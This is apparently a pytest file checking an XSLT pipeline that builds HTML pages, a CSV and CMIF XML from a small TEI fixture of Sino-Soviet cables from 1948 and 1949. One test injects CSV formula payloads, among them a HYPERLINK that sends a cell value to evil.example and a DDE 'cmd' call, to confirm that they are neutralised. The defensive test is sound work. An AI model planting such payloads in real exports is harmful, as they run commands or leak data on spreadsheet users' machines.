"""The XSLT stages (pipeline/transform.py + xslt/) on the hand-written fixture tests/data/tei-mini.

The fixture has six documents: three letters (one with two intermediaries, one to
"Filippov" = Stalin, one without summary), a statement without parties, a memorandum of
conversation (participants) and notes (author).
"""

from __future__ import annotations

import csv as csvlib
import io
import re
import shutil
from pathlib import Path

import pytest
from lxml import etree, html as lxml_html

from pipeline import transform

HERE = Path(__file__).resolve().parent
FIXTURE = HERE / "data" / "tei-mini"
SHARED = Path(__file__).resolve().parents[1].parent / "shared"
CMIF_SCHEMAS = SHARED / "schemas" / "cmif"
TEI = "http://www.tei-c.org/ns/1.0"
NS = {"t": TEI}

SETTINGS = {
    "title": "Sino-Soviet Relations, 1948-1949: A Calendar of Letters",
    "editor": "corresp sample edition",
    "editor_email": "editor@example.org",
    "publisher": "corresp sample edition",
    "licence": "https://creativecommons.org/licenses/by/4.0/",
    "base_url": "https://example.org/sino-soviet-relations/",
    "source": "Sino-Soviet Relations. Digital Archive International History Declassified.",
    "cmif_url": "https://example.org/sino-soviet-relations/cmif.xml",
    "cmif_bibl_id": "c7706107-97f2-4505-bd3c-434a0bde8c89",
    "cmif_date": "2026-11-27",
}

# The fixture's documents in date order.
ORDER = [
    "cable_1948-10-21_stalin_mao-zedong",
    "cable_1949-01-10_mao_filippov",
    "cable_1949-01-15_stalin_mao-zedong",
    "statement_1949-01-18",
    "memorandum-of-conversation_1949-01-30_anastas-mikoyan-and-mao-zedong",
    "notes_1949-01-31_anastas-mikoyan",
]
LETTERS = ORDER[:3]
FILIPPOV = "cable_1949-01-10_mao_filippov"

STALIN_VIAF = "http://viaf.org/viaf/101787139"
MAO_GND = "https://d-nb.info/gnd/118577425"


def build(tei_dir: Path, out: Path, stylesheets: transform.Stylesheets | None = None) -> Path:
    """Run the three stages into ``out`` (html/, letters.csv, cmif.xml)."""
    st = stylesheets or transform.stylesheets()
    st.html(tei_dir, out / "html", SETTINGS)
    st.csv(tei_dir, out / "letters.csv", SETTINGS)
    st.cmif(tei_dir, out / "cmif.xml", SETTINGS)
    return out


@pytest.fixture(scope="module")
def out(tmp_path_factory) -> Path:
    return build(FIXTURE, tmp_path_factory.mktemp("out"))


def page(out: Path, name: str):
    return lxml_html.parse(str(out / "html" / name)).getroot()


def text(element) -> str:
    return " ".join(element.text_content().split())


def need_shared(*parts: str) -> Path:
    path = SHARED.joinpath(*parts)
    if not path.exists():
        pytest.skip(f"reference schemas not available: {path} (the shared/ folder next to the project)")
    return path


# ---------------------------------------------------------------------------- HTML

ENTITIES = {
    "persons": {"stalin", "mao-zedong", "kuznetsov", "terebin", "anastas-mikoyan"},
    "places": {"moscow", "nanjing", "beijing"},
    "orgs": {"kuomintang", "ccp"},
}


def test_html_writes_every_page_and_the_assets(out):
    html = out / "html"
    names = {str(p.relative_to(html)) for p in html.rglob("*") if p.is_file()}
    assert names == {f"{i}.html" for i in ORDER} | {f"tei/{i}.xml" for i in ORDER} | {
        f"{register}/{i}.html" for register, ids in ENTITIES.items() for i in ids} | {
        "index.html", "persons.html", "places.html", "orgs.html", "network.html",
        "corresp.css", "corresp.js", "search-index.js"}
    for asset in ("corresp.css", "corresp.js"):
        assert (html / asset).read_bytes() == (transform.XSLT_DIR / "assets" / asset).read_bytes()
    assert not list(html.glob(".staging-*")), "staging directory left behind"


def test_tei_files_are_copies_of_the_sources(out):
    for doc_id in ORDER:
        copy = out / "html" / "tei" / f"{doc_id}.xml"
        assert copy.read_bytes() == (FIXTURE / "letters" / f"{doc_id}.xml").read_bytes()
        link = page(out, f"{doc_id}.html").xpath("//p[@class='download']/a")[0]
        assert link.get("href") == f"tei/{doc_id}.xml"
        assert link.get("type") == "application/tei+xml"


def test_index_lists_all_documents_in_date_order(out):
    index = page(out, "index.html")
    rows = index.xpath("//table[@class='documents']/tbody/tr")
    assert [r.get("id") for r in rows] == ORDER
    dates = [r.xpath("string(.//td[@class='date']/time/@datetime)") for r in rows]
    assert dates == sorted(dates)
    for row in rows:
        href = row.xpath("string(.//td[@class='title']/a/@href)")
        assert href == row.get("id") + ".html"
        assert (out / "html" / href).is_file()
    first = text(rows[0].xpath(".//td[@class='parties']")[0])
    assert first == "Stalin → Mao Zedong, via Kuznetsov, Terebin"
    assert text(rows[4].xpath(".//td[@class='parties']")[0]) == "Anastas Mikoyan, Mao Zedong"
    assert text(rows[5].xpath(".//td[@class='parties']")[0]) == "by Anastas Mikoyan"
    assert text(rows[4].xpath(".//td[@class='type']")[0]) == "Memorandum of Conversation"


def test_pages_are_plain_html5_without_external_resources(out):
    for path in (out / "html").glob("*.html"):
        raw = path.read_bytes()
        assert raw.startswith(b"<!DOCTYPE HTML>"), path.name
        assert b'<meta charset="utf-8">' in raw, path.name
        assert b"http-equiv" not in raw, path.name
        root = lxml_html.fromstring(raw)
        for ref in root.xpath("//link/@href | //script/@src | //img/@src | //iframe/@src"):
            assert "://" not in ref and not ref.startswith("/"), (path.name, ref)


def test_all_internal_links_resolve(out):
    """Every relative link (pages in sub-folders included) names a file that exists, and its
    #fragment an id in that file. Queries (index.html?from=…) are for the script: ignored."""
    html = out / "html"
    pages = {p.resolve(): page(out, str(p.relative_to(html))) for p in html.rglob("*.html")}
    ids = {p: set(root.xpath("//@id")) for p, root in pages.items()}
    for path, root in pages.items():
        for href in root.xpath("//@href | //@src"):
            if href.startswith(("http://", "https://", "mailto:")):
                continue
            target, _, fragment = href.partition("#")
            target = (path.parent / target.partition("?")[0]).resolve() if target else path
            assert target.is_file(), f"{path.name}: broken link {href}"
            if fragment:
                assert fragment in ids[target], f"{path.name}: no #{fragment} in {target.name}"


def test_each_document_page_has_metadata_and_summary(out):
    a = page(out, f"{ORDER[0]}.html")
    assert text(a.xpath("//dd[@class='senders']")[0]) == "Stalin"
    assert text(a.xpath("//dd[@class='recipients']")[0]) == "Mao Zedong"
    assert [x.text for x in a.xpath("//dd[@class='intermediaries']/a")] == ["Kuznetsov", "Terebin"]
    source = text(a.xpath("//dd[@class='source']")[0])
    assert "Cable, Stalin [via Kuznetsov] to Mao Zedong [via Terebin]" in source
    assert "Sino-Soviet Relations" in source and "lines 12-16" in source
    summary = a.xpath("//section[@class='summary']")[0]
    assert summary.xpath(".//a[@class='placeName' and @href='places/moscow.html']/text()") == ["Moscow"]
    assert summary.xpath(".//a[@class='persName' and .='Andrei Orlov']/@href") == ["persons/terebin.html"]

    no_summary = page(out, f"{ORDER[2]}.html")
    assert no_summary.xpath("//p[@class='no-summary']")
    assert text(no_summary.xpath("//dd[@class='subject']")[0]) == "Nanjing Peace Proposal"

    statement = page(out, "statement_1949-01-18.html")
    assert not statement.xpath("//dd[@class='senders']")
    assert statement.xpath("//cite[@class='published-in']/text()") == ["Izyestia"]

    memo = page(out, f"{ORDER[4]}.html")
    assert [x.text for x in memo.xpath("//dd[@class='participants']/a")] == ["Anastas Mikoyan", "Mao Zedong"]
    notes = page(out, f"{ORDER[5]}.html")
    assert notes.xpath("//dd[@class='authors']/a/@href") == ["persons/anastas-mikoyan.html"]


def test_filippov_is_linked_to_stalin(out):
    doc = page(out, f"{FILIPPOV}.html")
    link = doc.xpath("//dd[@class='recipients']/a")[0]
    assert link.text == "Filippov"
    assert link.get("href") == "persons/stalin.html"
    # The name stays as written; who it is shows next to it.
    assert text(doc.xpath("//dd[@class='recipients']")[0]) == "Filippov (Joseph Stalin)"
    # The summary: names linked, the date shown as written and machine-readable.
    summary = doc.xpath("//section[@class='summary']")[0]
    assert summary.xpath(".//a[.='Stalin']/@href") == ["persons/stalin.html"]
    assert summary.xpath(".//a[.='GMD']/@href") == ["orgs/kuomintang.html"] * 2
    assert summary.xpath(".//time[@datetime='1949-01-06']/text()") == ["6 January 1949"]
    assert page(out, "persons/stalin.html").xpath("//h1/text()") == ["Joseph Stalin"]
    # The register's list keeps an anchor per entry (links to persons.html#stalin still work).
    row = page(out, "persons.html").xpath("//tr[@id='stalin']")[0]
    assert row.xpath("th/a/@href") == ["persons/stalin.html"]
    assert text(row.xpath("td[@class='names']")[0]) == "Stalin; Filippov"


def test_prev_next_follow_date_order(out):
    for i, doc_id in enumerate(ORDER):
        nav = page(out, f"{doc_id}.html").xpath("//nav[@class='prev-next']")[0]
        prev = nav.xpath("a[@rel='prev']/@href")
        nxt = nav.xpath("a[@rel='next']/@href")
        assert prev == ([f"{ORDER[i - 1]}.html"] if i > 0 else [])
        assert nxt == ([f"{ORDER[i + 1]}.html"] if i < len(ORDER) - 1 else [])


def docs(section, role):
    """The documents an entry page lists under a role, as ids."""
    return [h.rsplit("/", 1)[-1].removesuffix(".html") for h in section.xpath(
        f".//dt[@class='role-{role}']/following-sibling::dd[1]//a/@href")]


def test_person_pages_list_name_forms_authorities_and_documents(out):
    stalin = page(out, "persons/stalin.html")
    names = [text(li) for li in stalin.xpath("//ul[@class='names']/li")]
    assert names == ["Joseph Stalin (preferred)", "Stalin (short)", "Filippov (pseudonym)"]
    assert stalin.xpath("//a[@class='authority']/@href") == [
        STALIN_VIAF, "http://www.wikidata.org/entity/Q855"]

    assert docs(stalin, "sent") == [ORDER[0], ORDER[2]]
    assert docs(stalin, "received") == [FILIPPOV]
    assert docs(stalin, "mentioned") == [ORDER[0], FILIPPOV]
    assert text(stalin.xpath("//dt[@class='role-sent']")[0]) == "Sent (2)"
    # Links from a page in persons/ lead back up to the documents and the stylesheet.
    assert stalin.xpath("//dt[@class='role-sent']/following-sibling::dd[1]//a/@href")[0] == f"../{ORDER[0]}.html"
    assert stalin.xpath("//link[@rel='stylesheet']/@href") == ["../corresp.css"]
    assert stalin.xpath("//nav[@aria-label='Main']//a[@aria-current]/@href") == ["../persons.html"]
    assert stalin.xpath("//nav[@aria-label='Main']//a[@aria-current]/@aria-current") == ["true"]

    mao = page(out, "persons/mao-zedong.html")
    assert mao.xpath("//a[@class='authority']/@href")[:2] == [MAO_GND, "http://viaf.org/viaf/51699962"]
    assert docs(mao, "participant") == [ORDER[4]]
    kuznetsov = page(out, "persons/kuznetsov.html")
    assert docs(kuznetsov, "transmitted") == [ORDER[0]]
    assert not kuznetsov.xpath("//a[@class='authority']")
    assert not kuznetsov.xpath("//figure"), "no letters sent or received, no timeline"
    assert docs(page(out, "persons/anastas-mikoyan.html"), "author") == [ORDER[5]]


def test_entity_timeline_counts_the_letters_and_links_to_the_filtered_index(out):
    stalin = page(out, "persons/stalin.html")
    bars = stalin.xpath("//figure[@id='timeline']//*[local-name()='a'][@class='bar']")
    # Stalin sent or received the three letters: October 1948 and two in January 1949.
    assert [(b.get("data-period"), b.get("aria-label")) for b in bars] == [
        ("1948-10", "October 1948: 1 document"), ("1949-01", "January 1949: 2 documents")]
    assert bars[1].get("href") == (
        f"../index.html?correspondent=persons/stalin&from=1949-01&to=1949-01#{FILIPPOV}")
    moscow = page(out, "places/moscow.html")
    assert moscow.xpath("//figure//*[local-name()='a'][@class='bar']/@href") == [
        f"../index.html?place=places/moscow&from=1948-10&to=1948-10#{ORDER[0]}"]


def test_places_and_orgs_pages(out):
    moscow = page(out, "places/moscow.html")
    assert "http://www.geonames.org/524901" in moscow.xpath("//a[@class='authority']/@href")
    kmt = page(out, "orgs/kuomintang.html")
    names = [text(li) for li in kmt.xpath("//ul[@class='names']/li")]
    assert "Guomindang (variant)" in names and "GMD (short)" in names
    assert [h.removeprefix("../").removesuffix(".html") for h in kmt.xpath("//dd//a/@href")] == [FILIPPOV, ORDER[4]]
    counts = {r.get("id"): text(r.xpath("td[@class='number']")[0]) for r in page(out, "orgs.html").xpath("//tbody/tr")}
    assert counts == {"ccp": "2", "kuomintang": "2"}


def test_index_rows_carry_the_filter_values(out):
    rows = {r.get("id"): r for r in page(out, "index.html").xpath("//table[@id='documents']/tbody/tr")}
    first = rows[ORDER[0]]
    assert (first.get("data-month"), first.get("data-year")) == ("1948-10", "1948")
    assert first.get("data-type") == "cable"
    assert first.get("data-correspondents") == "persons/stalin persons/mao-zedong"
    assert first.get("data-places") == "places/moscow"
    assert rows[FILIPPOV].get("data-correspondents") == "persons/mao-zedong persons/stalin"
    assert rows["statement_1949-01-18"].get("data-correspondents") == ""
    options = page(out, "index.html").xpath("//select[@id='f-correspondent']/option")
    assert [(o.get("value"), text(o)) for o in options] == [
        ("", "All correspondents"), ("persons/stalin", "Joseph Stalin (3)"), ("persons/mao-zedong", "Mao Zedong (3)")]


def test_search_index_is_json_per_document(out):
    import json

    source = (out / "html" / "search-index.js").read_text("utf-8")
    body = source[source.index("["):source.rindex("]") + 1]
    entries = json.loads(body)
    assert [e[0] for e in entries] == ORDER
    words = dict(entries)
    # Titles, the summary, names as written and the names of the entries they point to.
    assert "Filippov" in words[FILIPPOV] and "Joseph Stalin" in words[FILIPPOV]
    assert "People's Liberation Army" in words[FILIPPOV]
    assert "Nanjing Peace Proposal" in words[ORDER[2]]


def test_correspondence_navigation(out):
    # Stalin → Mao (Oct), Mao → Filippov=Stalin (Jan 10), Stalin → Mao (Jan 15): one correspondence.
    def nav(doc_id):
        navs = page(out, f"{doc_id}.html").xpath("//nav[@class='prev-next correspondence']")
        return navs[0] if navs else None

    middle = nav(FILIPPOV)
    assert text(middle.xpath("p[@class='nav-label']")[0]) == "Letter 2 of 3 between Joseph Stalin and Mao Zedong"
    assert middle.xpath("a[@class='prev']/@href") == [f"{ORDER[0]}.html"]
    assert middle.xpath("a[@class='next']/@href") == [f"{ORDER[2]}.html"]
    assert nav(ORDER[0]).xpath("a/@href") == [f"{FILIPPOV}.html"]
    assert nav("statement_1949-01-18") is None  # no parties: no correspondence


def test_letter_page_cites_and_shows_places_of_writing(tmp_path):
    tei = tmp_path / "tei"
    shutil.copytree(FIXTURE, tei)
    letter = tei / "letters" / f"{ORDER[2]}.xml"
    source = letter.read_text("utf-8")
    sent = '<date when="1949-01-15">January 15, 1949</date>\n        </correspAction>'
    assert sent in source
    letter.write_text(source.replace(
        sent, sent.replace("</correspAction>", "").rstrip()
        + '\n          <placeName ref="../register/places.xml#moscow">Moscow</placeName>\n        </correspAction>', 1), "utf-8")
    transform.Stylesheets().html(tei, tmp_path / "html", SETTINGS)
    doc = lxml_html.parse(str(tmp_path / "html" / f"{ORDER[2]}.html"))
    assert doc.xpath("//dt[.='Place of writing']/following-sibling::dd[1]/a/@href") == ["places/moscow.html"]
    citation = text(doc.xpath("//p[@class='citation']")[0])
    assert citation == ("“Cable, Stalin to Mao Zedong, Nanjing Peace Proposal, 15 January 1949”, in: "
                        f"{SETTINGS['title']}, edited by {SETTINGS['editor']}. {SETTINGS['base_url']}{ORDER[2]}.html")


def filippov_page_saying(tmp_path: Path, words: str):
    """The HTML page of the Filippov cable whose summary goes on with ``words`` (TEI markup)."""
    tei = tmp_path / "tei"
    shutil.copytree(FIXTURE, tei)
    letter = tei / "letters" / f"{FILIPPOV}.xml"
    letter.write_text(letter.read_text("utf-8").replace("important provinces.", f"important provinces{words}."), "utf-8")
    transform.Stylesheets().html(tei, tmp_path / "html", SETTINGS)
    return lxml_html.parse(str(tmp_path / "html" / f"{FILIPPOV}.html"))


def test_no_link_inside_a_link(tmp_path):
    """A place inside an organisation's name: the organisation is the link, the place is not."""
    doc = filippov_page_saying(tmp_path, ', says the <orgName ref="../register/orgs.xml#kuomintang">'
                               '<placeName ref="../register/places.xml#nanjing">Nanjing</placeName> government</orgName>')
    assert not doc.xpath("//a//a")
    outer = doc.xpath("//section[@class='summary']//a[@class='orgName' and contains(., 'Nanjing')]")[0]
    assert outer.get("href") == "orgs/kuomintang.html"
    assert outer.xpath("span[@class='placeName']/@title") == ["Nanjing"]
    # Nanjing's page still lists the letter.
    nanjing = lxml_html.parse(str(tmp_path / "html" / "places" / "nanjing.html"))
    assert f"../{FILIPPOV}.html" in nanjing.xpath("//dd//a/@href")


def test_a_ref_resolves_against_the_base_of_its_name(tmp_path):
    """Names in letters are looked up once per @ref (common.xsl, c:entity), but a @ref still
    means what its base URI makes it mean: its first token counts, and below an xml:base it is
    resolved there (here: no register, so no link)."""
    summary = filippov_page_saying(
        tmp_path, ', says <persName ref="  ../register/persons.xml#stalin   other.xml#x">Koba</persName>'
        ' and not <seg xml:base="elsewhere/"><persName ref="../register/persons.xml#stalin">Soso</persName></seg>,'
        ' but <persName ref="#nobody">Nobody</persName>').xpath("//section[@class='summary']")[0]
    koba = summary.xpath(".//*[@class='persName' and . = 'Koba']")[0]
    assert (koba.tag, koba.get("href")) == ("a", "persons/stalin.html")
    for name in ("Soso", "Nobody"):
        element = summary.xpath(f".//*[@class='persName' and . = '{name}']")[0]
        assert (element.tag, element.get("title")) == ("span", None)


def test_network_page(out):
    network = page(out, "network.html")
    pairs = [[text(td) for td in tr.xpath("td")] for tr in network.xpath("//table[@class='pairs']/tbody/tr")]
    assert pairs == [["Joseph Stalin", "Mao Zedong", "2"], ["Mao Zedong", "Joseph Stalin", "1"]]
    svg = network.xpath("//*[local-name()='svg']")[0]
    nodes = svg.xpath(".//*[local-name()='a'][@class='node']")
    assert [n.get("href") for n in nodes] == ["persons/stalin.html", "persons/mao-zedong.html"]
    widths = [float(e.get("stroke-width")) for e in svg.xpath(".//*[local-name()='path'][@class='edge']")]
    assert len(widths) == 2 and widths[0] < widths[1]  # drawn thinnest first: 1 letter, then 2
    assert svg.xpath(".//*[local-name()='title']/text()")[0] == "Correspondence network"


# ---------------------------------------------------------------------------- CSV

# csv2cmi's columns first (tests/test_csv2cmi.py checks them against its documentation).
HEADER = ["sender", "senderID", "senderPlace", "senderPlaceID", "senderDate",
          "addressee", "addresseeID", "addresseePlace", "addresseePlaceID", "addresseeDate",
          "edition", "key", "note",
          "id", "type", "date", "date_text", "intermediaries", "participants", "authors",
          "places", "title", "subject", "summary", "source", "shelfmark"]


def read_csv(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf"), "no BOM"
    rows = list(csvlib.reader(io.StringIO(raw.decode("utf-8"), newline="")))
    assert rows[0] == HEADER
    return [dict(zip(HEADER, r, strict=True)) for r in rows[1:]]


def test_csv_rows_and_columns(out):
    rows = read_csv(out / "letters.csv")
    assert [r["id"] for r in rows] == ORDER
    by_id = {r["id"]: r for r in rows}

    first = by_id[ORDER[0]]
    assert first["date"] == first["senderDate"] == "1948-10-21" and first["date_text"] == "October 21, 1948"
    assert first["type"] == "cable"
    assert first["intermediaries"] == "Kuznetsov|Terebin"
    assert first["places"] == "Moscow"
    assert first["title"] == "Cable, Stalin [via Kuznetsov] to Mao Zedong [via Terebin]"
    assert first["summary"].startswith("Kuznetsov (Stalin) tells Terebin (Andrei Orlov) that")
    assert first["source"] == "sino-soviet-relations.txt, lines 12-16"
    assert first["edition"] == SETTINGS["title"]
    assert first["key"] == SETTINGS["base_url"] + ORDER[0] + ".html"  # csv2cmi: correspDesc/@ref

    # The parties by the register's preferred name (as in the CMIF); as written in the title.
    filippov = by_id[FILIPPOV]
    assert filippov["sender"] == "Mao Zedong" and filippov["addressee"] == "Joseph Stalin"
    assert filippov["title"].startswith("Cable, Mao to Filippov")
    assert filippov["senderID"] == MAO_GND
    assert filippov["addresseeID"] == STALIN_VIAF
    assert "6 January 1949" in filippov["summary"] and "\n" not in filippov["summary"]

    assert by_id[ORDER[2]]["subject"] == "Nanjing Peace Proposal"
    assert by_id[ORDER[2]]["summary"] == ""
    statement = by_id["statement_1949-01-18"]
    assert statement["sender"] == statement["addressee"] == statement["senderID"] == statement["senderDate"] == ""
    assert statement["date"] == "1949-01-18"  # the document's date, though it was not sent
    assert statement["places"] == "Nanjing"
    assert by_id[ORDER[4]]["participants"] == "Anastas Mikoyan|Mao Zedong"
    assert by_id[ORDER[5]]["authors"] == "Anastas Mikoyan" and by_id[ORDER[5]]["participants"] == ""


def test_csv_is_rfc4180(out):
    raw = (out / "letters.csv").read_bytes()
    lines = raw.split(b"\r\n")
    assert lines[-1] == b"" and len(lines) == 1 + 1 + len(ORDER)
    assert b"\n" not in raw.replace(b"\r\n", b"")
    # Fields with a comma or a quote are quoted, quotes doubled.
    notes = next(line for line in lines if ORDER[5].encode() in line)
    assert b'wrote that ""the path' in notes
    assert b',"October 21, 1948",' in raw


def test_csv_with_a_byte_order_mark_for_spreadsheets(tmp_path):
    path = transform.Stylesheets().csv(FIXTURE, tmp_path / "l.csv", dict(SETTINGS, csv_bom="yes"))
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfsender,") and raw.count(b"\xef\xbb\xbf") == 1
    assert raw[3:] == transform.Stylesheets().csv(FIXTURE, tmp_path / "m.csv", SETTINGS).read_bytes()


def test_csv_delimiter_is_a_setting(tmp_path):
    path = transform.Stylesheets().csv(FIXTURE, tmp_path / "l.csv", dict(SETTINGS, csv_delimiter=";"))
    rows = list(csvlib.DictReader(io.StringIO(path.read_text("utf-8"), newline="")))
    assert rows[0]["intermediaries"] == "Kuznetsov;Terebin"
    assert rows[4]["participants"] == "Anastas Mikoyan;Mao Zedong"


HOSTILE = {
    "title": ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "'=HYPERLINK"),
    "summary": ("+SUM(1+1)*cmd|' /C calc'!A0", "'+SUM"),
    "subject": ("-2+3", "'-2+3"),
    "sender": ("@SUM(1,1)", "'@SUM"),
    "quoted": ("'=1+1", "''=1+1"),
}


def test_no_csv_cell_starts_a_formula_and_the_tei_keeps_the_text(tmp_path):
    """OWASP CSV injection: =, +, -, @ (and tab, CR) at the start of a cell are made inert
    with a leading ', in every column; the TEI is not changed."""
    tei = tmp_path / "tei"
    shutil.copytree(FIXTURE, tei)
    letter = tei / "letters" / f"{FILIPPOV}.xml"
    source = letter.read_text("utf-8")
    hostile = {k: v[0].replace("&", "&amp;").replace("<", "&lt;") for k, v in HOSTILE.items()}
    source = source.replace('<title type="entry">Cable, Mao to Filippov [Stalin]</title>',
                            f'<title type="entry">{hostile["title"]}</title>')
    source = re.sub(r"<abstract>\s*<p>", lambda m: f"{m.group(0)}{hostile['summary']} ", source, count=1)
    source = source.replace("</keywords>", f'<term type="subject">{hostile["subject"]}</term></keywords>')
    assert hostile["title"] in source and hostile["subject"] in source
    letter.write_text(source, "utf-8")
    persons = tei / "register" / "persons.xml"
    persons.write_text(persons.read_text("utf-8").replace(">Mao Zedong</persName>", f">{hostile['sender']}</persName>", 1),
                       "utf-8")
    path = transform.Stylesheets().csv(tei, tmp_path / "l.csv", SETTINGS)
    rows = read_csv(path)
    row = next(r for r in rows if r["id"] == FILIPPOV)
    assert row["title"] == "'" + HOSTILE["title"][0]
    assert row["summary"].startswith("'" + HOSTILE["summary"][0])
    assert row["subject"] == "'" + HOSTILE["subject"][0]
    assert row["sender"] == "'" + HOSTILE["sender"][0]
    for r in rows:
        for column, cell in r.items():
            assert not cell[:1] in ("=", "+", "-", "@", "\t", "\r"), (r["id"], column, cell)
    # The TEI still says what the listing said.
    tree = etree.parse(str(letter))
    assert tree.xpath("string(//t:title[@type='entry'])", namespaces=NS) == HOSTILE["title"][0]
    assert tree.xpath("string(//t:abstract/t:p)", namespaces=NS).startswith(HOSTILE["summary"][0])


def test_csv_dates_in_edtf(tmp_path):
    """TEI dates → ISO/EDTF as csv2cmi reads them; tests/test_edtf.py reads them back."""
    tei = tmp_path / "tei"
    shutil.copytree(FIXTURE, tei)
    letter = tei / "letters" / f"{ORDER[2]}.xml"
    source = letter.read_text("utf-8")
    exact = '<date when="1949-01-15">January 15, 1949</date>'
    cases = {
        '<date when="1949-01-15" cert="low">x</date>': "1949-01-15?",
        '<date when="1949-01" precision="low">x</date>': "1949-01~",
        '<date when="1949" cert="medium" precision="low">x</date>': "1949%",
        '<date notBefore="1949-01-15" notAfter="1949-01-20">x</date>': "[1949-01-15..1949-01-20]",
        '<date notAfter="1949-01-20">x</date>': "[..1949-01-20]",
        '<date notBefore="1949-01-15" cert="low">x</date>': "[1949-01-15?..]",
        '<date from="1949-01-15" to="1949-01-20">x</date>': "1949-01-15/1949-01-20",
        '<date from="1949-01-15">x</date>': "1949-01-15/..",
        '<date>n.d.</date>': "",
    }
    st = transform.Stylesheets()
    for date, expected in cases.items():
        letter.write_text(source.replace(f"</persName>\n          {exact}", f"</persName>\n          {date}"), "utf-8")
        row = next(r for r in read_csv(st.csv(tei, tmp_path / "l.csv", SETTINGS)) if r["id"] == ORDER[2])
        assert row["senderDate"] == row["date"] == expected, date
        if expected:
            from pipeline import edtf
            read_back = edtf.parse(expected).attributes()
            written = dict(etree.fromstring(date.replace("<date", '<date xmlns="x"')).attrib)
            written = {k: v for k, v in written.items() if k != "cert" or v != "high"}
            assert {k: v for k, v in read_back.items() if k not in ("cert", "precision")} == \
                   {k: v for k, v in written.items() if k not in ("cert", "precision")}
            assert ("cert" in read_back) == ("cert" in written)
            assert ("precision" in read_back) == ("precision" in written)


# ---------------------------------------------------------------------------- CMIF

def cmif_tree(out: Path):
    return etree.parse(str(out / "cmif.xml"))


def test_cmif_has_only_letters_with_sent_and_received(out):
    tree = cmif_tree(out)
    descs = tree.xpath("//t:correspDesc", namespaces=NS)
    assert [d.get("ref") for d in descs] == [SETTINGS["base_url"] + i + ".html" for i in LETTERS]
    for d in descs:
        assert d.get("source") == "#" + SETTINGS["cmif_bibl_id"]
        assert [a.get("type") for a in d.xpath("t:correspAction", namespaces=NS)] == ["sent", "received"]
    assert not tree.xpath("//t:correspAction[@type='transmitted']", namespaces=NS)
    assert "Kuznetsov" not in (out / "cmif.xml").read_text("utf-8")

    filippov = descs[1]
    sender = filippov.xpath("t:correspAction[@type='sent']/t:persName", namespaces=NS)[0]
    recipient = filippov.xpath("t:correspAction[@type='received']/t:persName", namespaces=NS)[0]
    assert (sender.text, sender.get("ref")) == ("Mao Zedong", MAO_GND)
    assert (recipient.text, recipient.get("ref")) == ("Joseph Stalin", STALIN_VIAF)
    assert filippov.xpath("t:correspAction[@type='sent']/t:date/@when", namespaces=NS) == ["1949-01-10"]


def test_cmif_header_and_body(out):
    tree = cmif_tree(out)
    root = tree.getroot()
    header = root.find(f"{{{TEI}}}teiHeader")
    assert [etree.QName(e).localname for e in header] == ["fileDesc", "profileDesc"]
    pub = header.find(f"{{{TEI}}}fileDesc/{{{TEI}}}publicationStmt")
    assert [etree.QName(e).localname for e in pub] == ["publisher", "idno", "date", "availability"]
    assert pub.find(f"{{{TEI}}}idno").get("type") == "url"
    assert pub.find(f"{{{TEI}}}idno").text == SETTINGS["cmif_url"]
    assert pub.find(f"{{{TEI}}}date").get("when") == SETTINGS["cmif_date"]
    assert pub.find(f"{{{TEI}}}availability/{{{TEI}}}licence").get("target") == SETTINGS["licence"]
    bibl = tree.xpath("//t:sourceDesc/t:bibl", namespaces=NS)[0]
    assert bibl.get("type") == "online"
    assert bibl.get("{http://www.w3.org/XML/1998/namespace}id") == SETTINGS["cmif_bibl_id"]
    assert SETTINGS["source"].rstrip(".") in "".join(bibl.itertext())
    assert tree.xpath("//t:editor/t:email/text()", namespaces=NS) == [SETTINGS["editor_email"]]
    body = root.find(f"{{{TEI}}}text/{{{TEI}}}body")
    assert len(body) == 1 and etree.QName(body[0]).localname == "p"
    assert len(body[0]) == 0 and not (body[0].text or "").strip()


def test_cmif_mentions(out):
    tree = cmif_tree(out)
    refs = {d.get("ref").rsplit("/", 1)[1]: [(r.get("type").rsplit("#", 1)[1], r.get("target"))
                                              for r in d.xpath("t:note/t:ref", namespaces=NS)]
            for d in tree.xpath("//t:correspDesc", namespaces=NS)}
    # Moscow has GeoNames; Kuznetsov and Terebin have no id; Stalin and Mao are the parties.
    assert refs[f"{ORDER[0]}.html"] == [("mentionsPlace", "http://www.geonames.org/524901")]
    assert refs[f"{FILIPPOV}.html"] == [("mentionsOrg", "http://www.wikidata.org/entity/Q31113")]
    assert refs[f"{ORDER[2]}.html"] == []
    for target in tree.xpath("//t:ref/@target", namespaces=NS):
        assert target.startswith(("http://", "https://"))


@pytest.mark.parametrize("kind", ["official", "correspsearch"])
def test_cmif_is_valid_relax_ng(out, kind):
    schema = need_shared("schemas", "cmif", kind, "cmi-customization.rng")
    rng = etree.RelaxNG(file=str(schema))
    assert rng.validate(cmif_tree(out)), str(rng.error_log)


@pytest.mark.parametrize("kind", ["official", "correspsearch"])
def test_cmif_passes_schematron(out, kind):
    schema = need_shared("schemas", "cmif", kind, "cmif.sch")
    schematron = pytest.importorskip("pipeline.schematron", reason="pipeline/schematron.py not written yet")
    findings = schematron.Schematron(schema).validate(out / "cmif.xml")
    errors = [f for f in findings if f.role in (None, "", "error", "fatal")]
    assert not errors, "\n".join(map(str, errors))


def test_fixture_is_valid_tei():
    schema = need_shared("schemas", "tei", "tei_all.rng")
    rng = etree.RelaxNG(file=str(schema))
    for path in sorted(FIXTURE.rglob("*.xml")):
        assert rng.validate(etree.parse(str(path))), f"{path.name}: {rng.error_log}"


# ---------------------------------------------------------------------------- behaviour

def test_outputs_are_deterministic(out, tmp_path):
    again = build(FIXTURE, tmp_path / "again", transform.Stylesheets())
    first = sorted(p.relative_to(out) for p in out.rglob("*") if p.is_file())
    second = sorted(p.relative_to(again) for p in again.rglob("*") if p.is_file())
    assert first == second
    for rel in first:
        assert (out / rel).read_bytes() == (again / rel).read_bytes(), rel


def test_compiled_once_and_reused_with_fresh_input(tmp_path):
    tei = tmp_path / "tei"
    shutil.copytree(FIXTURE, tei)
    st = transform.Stylesheets()
    st.html(tei, tmp_path / "html", SETTINGS)
    st.csv(tei, tmp_path / "a.csv", SETTINGS)
    compiled = st.executable("html.xsl")

    letter = tei / "letters" / f"{FILIPPOV}.xml"
    letter.write_text(letter.read_text("utf-8").replace(
        "important provinces.", "important provinces &amp; &lt;b&gt;cities&lt;/b&gt;."), "utf-8")
    persons = tei / "register" / "persons.xml"
    persons.write_text(persons.read_text("utf-8").replace(">Joseph Stalin<", ">Iosif Stalin<"), "utf-8")

